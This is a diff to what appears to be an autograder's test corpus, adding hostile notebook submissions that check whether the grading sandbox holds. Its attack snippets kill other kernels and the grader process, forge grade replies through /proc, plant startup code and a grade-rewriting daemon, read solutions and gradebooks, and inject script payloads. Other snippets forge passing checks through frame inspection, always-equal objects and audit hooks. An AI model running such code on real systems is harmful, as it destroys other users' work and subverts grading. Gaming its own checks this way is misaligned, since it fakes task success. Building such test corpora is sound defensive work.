@@ -7,6 +7,10 @@ cells, files that are not notebooks. Each records the score an instructor
 would give and why. Building the cases from the current notebooks keeps them
 valid as the notebooks change.
 
+The attacks go for the machine they run on (other kernels, the grader, the
+course's files): grade this corpus only in the sandboxes, never with
+``--unsandboxed``.
+
     python autograder/corpus.py SUBMISSIONS   # write every case as a student folder
 
 tests/test_hostile.py grades the whole corpus in one `netcourse grade` run and
@@ -17,6 +21,7 @@ from __future__ import annotations
 
 import copy
 import sys
+import tempfile
 from collections.abc import Callable
 from dataclasses import dataclass, field
 from pathlib import Path
@@ -43,6 +48,10 @@ class Case:
     raw: bytes | None = None  # the file's bytes instead of a notebook
     empty: bool = False  # the student's folder holds nothing
     options: dict = field(default_factory=dict)
+    # The score is the student's own checks forged in their own kernel, which
+    # cannot be prevented: the submission must be flagged for review.
+    forged: bool = False
+    review: str | None = None  # a phrase one of its review notes must contain
 
 
 def _gid(cell) -> str | None:
@@ -238,8 +247,12 @@ WELCOME = [
     Case(
         "replaces-checker",
         W,
-        "a wrong answer that replaces the checker: the checker is restored before the check",
-        0,
+        "a wrong answer that replaces the checker and expect_returns: it forges its own "
+        "checks (all but the hidden expect_raises), which nothing in its own kernel can stop, "
+        "so it is flagged for review",
+        1,
+        forged=True,
+        review="a patch of netcourse",
         edits=(
             answer(
                 "frame-line",
@@ -270,8 +283,11 @@ WELCOME = [
     Case(
         "rewrites-cells",
         W,
-        "a wrong answer that makes IPython run `pass` instead of each cell: undone before checks",
-        0,
+        "a wrong answer that makes IPython run `pass` instead of each later cell: its checks "
+        "never run, a forgery of its own, flagged",
+        FULL,
+        forged=True,
+        review="the kernel object",
         edits=(
             answer(
                 "frame-line",
@@ -283,10 +299,10 @@ WELCOME = [
     Case(
         "tampers-during-check",
         W,
-        "a correct function that disables Report.require when the checker calls it: caught "
-        "after the check cell, which scores 0 with the other cells' checks",
-        0,
-        reason="tampering detected",
+        "a correct function that disables Report.require when the checker calls it: it "
+        "earns its points anyway, and the patch is flagged",
+        FULL,
+        review="a patch of netcourse",
         edits=(
             answer(
                 "frame-line",
@@ -298,12 +314,13 @@ WELCOME = [
         ),
     ),
     Case(
-        "bypasses-guard",
+        "replaces-kernel-execution",
         W,
-        "a wrong answer that takes the guard out of the kernel and fakes the checker: the "
-        "checks 'pass' but carry no seal, so they score 0",
-        0,
-        reason="tampering detected",
+        "a wrong answer that swaps the grading kernel's execution for IPython's own and fakes "
+        "the checker: forged (but for the hidden expect_raises), flagged",
+        1,
+        forged=True,
+        review="the kernel object",
         edits=(
             answer(
                 "frame-line",
@@ -317,16 +334,17 @@ WELCOME = [
     Case(
         "edits-package-on-disk",
         W,
-        "a wrong answer that rewrites the installed checker on disk: the file is restored, "
-        "the submission flagged and scored 0",
+        "a wrong answer that rewrites the installed checker on disk (and any copy of it in "
+        "the grader's scratch space): the package is read-only in the sandbox",
         0,
-        reason="rewrote",
         edits=(
             answer(
                 "frame-line",
-                WRONG_FRAME_LINE + "import pathlib\n"
+                WRONG_FRAME_LINE + "import glob, pathlib\n"
                 "path = pathlib.Path(nc.checks.warmup.__file__)\n"
-                "path.write_text(path.read_text() + '\\ncheck_frame_line = lambda f: None\\n')",
+                "copies = glob.glob('@TMP@/netcourse-grade-*/workers/*/*/netcourse/checks/*.py')\n"
+                "for target in [path, *map(pathlib.Path, copies)]:\n"
+                "    target.write_text('check_frame_line = lambda f: None\\n')",
             ),
         ),
     ),
@@ -377,6 +395,347 @@ WELCOME = [
         0,
         reason="nothing to grade",
         empty=True,
+    ),
+]
+
+# Attacks on the grader and on other students (issue 11) ------------------------
+#
+# Each is the correct solution (or the blank release) plus code that goes for
+# something outside its own kernel. Paths are filled in when the corpus is
+# built: @SUBMISSIONS@ (the folder being graded), @OUTPUTS@ (where the grade
+# run writes, its parent), @COURSE@ (the course root) and @TMP@ (the grader's
+# temporary folder). Sandboxed, none of it is visible; every case scores what
+# its honest code earns and no other student's score moves.
+
+DISPLAYS = "def frame_line(text):\n    import sys; sys.displayhook('graded')\n"
+KILL_KERNELS = """\
+import os, signal
+for pid in filter(str.isdigit, os.listdir('/proc')):
+    if int(pid) in (os.getpid(), 1):
+        continue
+    try:
+        cmdline = open(f'/proc/{pid}/cmdline', 'rb').read()
+        if b'netcourse.grading' in cmdline:
+            os.kill(int(pid), signal.SIGKILL)
+    except OSError:
+        pass
+"""
+KILL_GRADER = """\
+import os, signal
+pid = os.getpid()
+for _ in range(6):  # the parent, the grandparent, ... up to the grader
+    try:
+        pid = int(open(f'/proc/{pid}/stat').read().rsplit(')', 1)[1].split()[1])
+    except (OSError, ValueError, IndexError):
+        break
+    if pid <= 1:  # no parent it can see (0 would be its own process group)
+        break
+    os.kill(pid, signal.SIGKILL)
+try:
+    os.kill(os.getppid(), signal.SIGKILL)
+except OSError:
+    pass
+"""
+DRIVE_KERNELS = """\
+import glob, os
+from jupyter_client import BlockingKernelClient
+files = glob.glob('@TMP@/netcourse-grade-*/workers/*/kernels/*/run/kernel.json')
+files += glob.glob('@TMP@/**/kernel-*.json', recursive=True)
+for pid in filter(str.isdigit, os.listdir('/proc')):
+    try:
+        args = open(f'/proc/{pid}/cmdline', 'rb').read().decode().split('\\0')
+        files += [args[args.index('-f') + 1]] if '-f' in args else []
+    except (OSError, ValueError, IndexError):
+        pass
+for path in set(files) - {get_ipython().kernel.connection_file}:
+    try:
+        client = BlockingKernelClient(connection_file=path)
+        client.load_connection_file()
+        client.start_channels()
+        client.execute("import os; os.kill(os.getpid(), 9)")
+        client.stop_channels()
+    except Exception:
+        pass
+"""
+PLANT = """\
+import glob, pathlib
+evil = "import os; os.kill(os.getpid(), 9)\\n"
+for folder in glob.glob('@TMP@/netcourse-grade-*/workers/*/ipython/profile_default'):
+    (pathlib.Path(folder) / 'startup').mkdir(exist_ok=True)
+    (pathlib.Path(folder) / 'startup' / '00-evil.py').write_text(evil)
+for folder in glob.glob('@TMP@/netcourse-grade-*/base/solutions/*'):
+    (pathlib.Path(folder) / 'netcourse').mkdir(exist_ok=True)
+    (pathlib.Path(folder) / 'netcourse' / '__init__.py').write_text(evil)
+for config in glob.glob('@TMP@/netcourse-grade-*/**/nbgrader_config.py', recursive=True):
+    with open(config, 'a') as stream:
+        stream.write('\\nc.Autograde.autograde_preprocessors = []\\n')
+"""
+FORGE_REPLY = """\
+import json, os
+reply = json.dumps({"type": "Autograded", "scores": {"score": 2.0, "cells": {}},
+                    "error": None, "feedback": True, "overruled": {}}) + "\\n"
+for pid in filter(str.isdigit, os.listdir('/proc')):
+    try:
+        if b'nbgrader_worker' not in open(f'/proc/{pid}/cmdline', 'rb').read():
+            continue
+        for fd in os.listdir(f'/proc/{pid}/fd'):
+            try:
+                with open(f'/proc/{pid}/fd/{fd}', 'w') as stream:
+                    stream.write(reply)
+            except OSError:
+                pass
+    except OSError:
+        pass
+"""
+DAEMON = """\
+import glob, os, time
+deadline = time.time() + 600
+while time.time() < deadline:
+    for cgroup in ('/sys/fs/cgroup/pids/cgroup.procs', '/sys/fs/cgroup/cgroup.procs'):
+        try:
+            open(cgroup, 'w').write(str(os.getpid()))
+        except OSError:
+            pass
+    targets = glob.glob('@OUTPUTS@/grades.*') + glob.glob('@OUTPUTS@/fb/*/*/*.html')
+    targets += glob.glob('@SUBMISSIONS@/correct/*/*.ipynb')
+    for target in targets:
+        try:
+            with open(target, 'a') as stream:
+                stream.write('forged by a daemon')
+        except OSError:
+            pass
+    time.sleep(0.5)
+"""
+LEAVE_DAEMON = f"""\
+import os, sys
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        os.execv(sys.executable, [sys.executable, '-c', {DAEMON!r}, 'netcourse-hostile-daemon'])
+    os._exit(0)
+"""
+READ_SECRETS = """\
+import glob
+seen = []
+patterns = ['@COURSE@/solutions/*/*.ipynb', '@COURSE@/gradebook.db',
+            '@TMP@/netcourse-grade-*/base/solutions/*/*.ipynb',
+            '@TMP@/netcourse-grade-*/**/gradebook.db', '@SUBMISSIONS@/*/*/*.ipynb']
+for pattern in patterns:
+    for path in glob.glob(pattern, recursive=True):
+        try:
+            seen.append(open(path, 'rb').read()[:100000].decode('utf-8', 'replace'))
+        except OSError:
+            pass
+print(len(seen), 'files read')
+print('\\n'.join(seen))
+"""
+FILL_FEEDBACK = """\
+import os
+for i in range(6):  # 60 MiB in the working folder, which nbgrader's folders once were
+    with open(f'bulk-{i}.bin', 'wb') as stream:
+        stream.write(os.urandom(10 * 2**20))
+os.symlink('/etc/passwd', 'passwd-link')
+"""
+PRINTS_ARGUMENTS = (
+    "def frame_line(text):\n"
+    "    print('called with', repr(text))\n"
+    "    if '\\n' in text:\n        raise ValueError(text)\n"
+    "    return text.encode('utf-8') + b'\\n'\n"
+)
+PRINT_HISTORY = "print(In)\nprint(_ih[-3])\nprint(get_ipython().user_ns.get('_i3'))"
+ACTIVE_MARKDOWN = (
+    "<script>alert('PWNED')</script><img src=x onerror=\"alert('PWNED')\">\n"
+    '<iframe src="https://example.com/PWNED"></iframe>'
+    '<form action="https://example.com/PWNED"><input name=q></form>\n\n'
+    "[click](javascript:alert('PWNED')) <a href=\"javascript:alert('PWNED')\">here</a>"
+)
+ACTIVE_OUTPUT = """\
+from IPython.display import HTML, Javascript, SVG, Markdown, display
+display(HTML("<script>alert('PWNED')</script><b onclick=\\"alert('PWNED')\\">bold</b>"))
+display(HTML("<script>alert('PWNED')</script>"), metadata={"isolated": True})
+display(Javascript("alert('PWNED')"))
+display(Markdown("<img src=x onerror=\\"alert('PWNED')\\">"))
+svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
+display(SVG(svg))
+print("<script>alert('PWNED')</script>")
+"""
+FRAME_WALK = """\
+def frame_line(text):
+    import sys
+    for frame in list(sys._current_frames().values()):
+        while frame is not None:
+            expected = frame.f_locals.get('expected')
+            if isinstance(expected, bytes):
+                return expected  # the checker's own expected value
+            frame = frame.f_back
+    if '\\n' in text:
+        raise ValueError(text)
+    return b'wrong'
+"""
+ALWAYS_EQUAL = """\
+class _Yes(bytes):
+    def __eq__(self, other):
+        return True
+    def __ne__(self, other):
+        return False
+    __hash__ = bytes.__hash__
+
+def frame_line(text):
+    if '\\n' in text:
+        raise ValueError(text)
+    return _Yes(b'wrong')
+"""
+AUDIT_HOOK = (
+    FAKE_REPORT
+    + """\
+import sys
+def _hook(event, args):
+    if event == 'exec':
+        nc.checks.warmup.check_frame_line = lambda f: _Passing()
+        nc.checks.expect_returns = lambda *a, **k: None
+sys.addaudithook(_hook)
+"""
+)
+
+ATTACKS = [
+    Case(
+        "displayhook",
+        W,
+        "frame_line displays a value when the checker calls it (nbgrader alone gave that 2/2): "
+        "a test cell showing anything but its report scores 0",
+        0,
+        review="the displayhook",
+        edits=(answer("frame-line", DISPLAYS),),
+    ),
+    Case(
+        "kills-other-kernels",
+        W,
+        "a correct answer that SIGKILLs every kernel and worker it can find: in its own PID "
+        "namespace it finds none",
+        FULL,
+        review="signals to other processes",
+        edits=(after("frame-line", KILL_KERNELS),),
+    ),
+    Case(
+        "kills-the-grader",
+        W,
+        "a correct answer that SIGKILLs its parents up to the grader: its parent is the "
+        "sandbox's init, which ignores it, and nothing outside can be seen",
+        FULL,
+        review="signals to other processes",
+        edits=(after("frame-line", KILL_GRADER),),
+    ),
+    Case(
+        "drives-other-kernels",
+        W,
+        "a correct answer that finds other kernels' connection files and tells them to die: "
+        "no other kernel's files or sockets are visible",
+        FULL,
+        review="the kernel object",
+        edits=(after("frame-line", DRIVE_KERNELS),),
+    ),
+    Case(
+        "plants-startup-code",
+        W,
+        "a correct answer that plants code for later students: an IPython startup file in the "
+        "workers' profiles, a netcourse package in the shared sources, lines appended to "
+        "nbgrader_config.py; none of those folders is visible",
+        FULL,
+        edits=(after("frame-line", PLANT),),
+    ),
+    Case(
+        "forges-a-reply",
+        W,
+        "the blank release, writing a forged 2/2 reply into the grading worker's pipes "
+        "through /proc: no worker is visible",
+        0,
+        base="notebooks",
+        review="/proc",
+        edits=(after("frame-line", FORGE_REPLY),),
+    ),
+    Case(
+        "leaves-a-daemon",
+        W,
+        "the blank release, leaving a daemon that tries to leave its control group and keeps "
+        "rewriting grades, feedback and another student's submission: it dies with its sandbox",
+        0,
+        base="notebooks",
+        review="/proc",
+        edits=(after("frame-line", LEAVE_DAEMON),),
+    ),
+    Case(
+        "reads-secrets",
+        W,
+        "a correct answer that prints the solutions, the gradebooks and other students' "
+        "submissions: none of them is visible",
+        FULL,
+        edits=(after("frame-line", READ_SECRETS),),
+    ),
+    Case(
+        "fills-feedback",
+        W,
+        "a correct answer that writes 60 MiB into its working folder: only the feedback page "
+        "goes back",
+        FULL,
+        edits=(after("frame-line", FILL_FEEDBACK),),
+    ),
+    Case(
+        "prints-arguments",
+        W,
+        "a correct frame_line that prints its arguments: what a check's call prints is "
+        "dropped, so no hidden input reaches the feedback",
+        FULL,
+        edits=(answer("frame-line", PRINTS_ARGUMENTS),),
+    ),
+    Case(
+        "prints-history",
+        W,
+        "a correct answer whose last cell prints the kernel's input history, hidden tests "
+        "included: those lines are redacted from the feedback",
+        FULL,
+        review="the input history",
+        edits=(at_end(PRINT_HISTORY),),
+    ),
+    Case(
+        "active-html",
+        W,
+        "a correct answer with scripts, event handlers, an iframe and a form in its markdown "
+        "and outputs: the feedback shows none of them live",
+        FULL,
+        review="the kernel object",
+        edits=(
+            lambda nb: nb.cells.insert(1, nbformat.v4.new_markdown_cell(ACTIVE_MARKDOWN)),
+            after("frame-line", ACTIVE_OUTPUT),
+        ),
+    ),
+    Case(
+        "reads-expected-from-frames",
+        W,
+        "a wrong frame_line that returns the expected value it finds in the checker's frames: "
+        "a forgery of its own checks, flagged",
+        1,
+        forged=True,
+        review="frame inspection",
+        edits=(answer("frame-line", FRAME_WALK),),
+    ),
+    Case(
+        "always-equal-bytes",
+        W,
+        "a wrong frame_line that returns a bytes whose == is always true",
+        1,
+        forged=True,
+        review="whose __eq__ is its own",
+        edits=(answer("frame-line", ALWAYS_EQUAL),),
+    ),
+    Case(
+        "audit-hook",
+        W,
+        "a wrong answer whose audit hook puts a fake checker back before every cell: "
+        "forged (but for the hidden expect_raises), flagged",
+        1,
+        forged=True,
+        review="an audit hook",
+        edits=(answer("frame-line", WRONG_FRAME_LINE + AUDIT_HOOK),),
     ),
 ]
 
@@ -431,9 +790,11 @@ TCP_SOCKETS = [
     Case(
         "tcp-patches-socket",
         T,
-        "a correct server, and socket patched so that no timeout can be set (the checker's "
-        "deadlines): socket is restored before each check",
-        FULL,
+        "a correct server, and socket patched so that no timeout can be set: the UDP "
+        "checks, which wait on socket timeouts, fail; the patch harms only its own grade "
+        "and is flagged",
+        7,
+        review="a patch of socket",
         edits=(
             after(
                 "blocking-echo-server",
@@ -443,11 +804,26 @@ TCP_SOCKETS = [
         ),
     ),
     Case(
+        "tcp-displayhook",
+        T,
+        "recv_exactly displays a value when the checker calls it: its two cells and the two of "
+        "the messages built on it score 0, whatever nbgrader's rule says",
+        5,
+        review="the displayhook",
+        edits=(
+            answer(
+                "recv-exactly",
+                "def recv_exactly(sock, n):\n    import sys; sys.displayhook('graded')\n",
+            ),
+        ),
+    ),
+    Case(
         "tcp-replaces-checker",
         T,
-        "a server that echoes one recv(1024) and a fake echo checker: the checker is restored "
-        "before the check, which catches the short read",
-        6,
+        "a server that echoes one recv(1024) and a fake echo checker: forged, flagged",
+        FULL,
+        forged=True,
+        review="a patch of netcourse",
         edits=(
             answer(
                 "blocking-echo-server",
@@ -500,9 +876,11 @@ QUEUES_AND_POOLS = [
     Case(
         "queues-replaces-checker",
         Q,
-        "a pool that runs each task inline, and a fake pool checker: the checker is restored "
-        "before the checks, which catch it",
-        14,
+        "a pool that runs each task inline, and a fake pool checker: the pool's tasks and "
+        "shutdown checks (which it does not fake) still catch it, the rest is forged, flagged",
+        16,
+        forged=True,
+        review="a patch of netcourse",
         edits=(
             after(
                 "pool",
@@ -518,11 +896,28 @@ QUEUES_AND_POOLS = [
     ),
 ]
 
-CASES = WELCOME + TCP_SOCKETS + QUEUES_AND_POOLS
+CASES = WELCOME + ATTACKS + TCP_SOCKETS + QUEUES_AND_POOLS
 
 
-def build(cases: list[Case], submissions: Path, root: Path = ROOT) -> None:
-    """Write each case as ``submissions/<case>/<assignment>/<assignment>.ipynb``."""
+def _fill_in(notebook: nbformat.NotebookNode, places: dict[str, str]) -> None:
+    """Put the real paths into the attacks' cells."""
+    for cell in notebook.cells:
+        for marker, path in places.items():
+            cell.source = cell.source.replace(marker, path)
+
+
+def build(cases: list[Case], submissions: Path, root: Path = ROOT, tmp: str | None = None) -> None:
+    """Write each case as ``submissions/<case>/<assignment>/<assignment>.ipynb``.
+
+    ``tmp`` is the temporary folder the grader will use (default: this process's).
+    """
+    submissions = submissions.resolve()
+    places = {
+        "@SUBMISSIONS@": str(submissions),
+        "@OUTPUTS@": str(submissions.parent),
+        "@COURSE@": str(root.resolve()),
+        "@TMP@": tmp or tempfile.gettempdir(),
+    }
     for case in cases:
         folder = submissions / case.name / case.assignment
         folder.mkdir(parents=True, exist_ok=True)
@@ -535,6 +930,7 @@ def build(cases: list[Case], submissions: Path, root: Path = ROOT) -> None:
         notebook = nbformat.read(root / case.base / case.assignment / target.name, as_version=4)
         for edit in case.edits:
             edit(notebook)
+        _fill_in(notebook, places)
         nbformat.write(notebook, target)
 
 
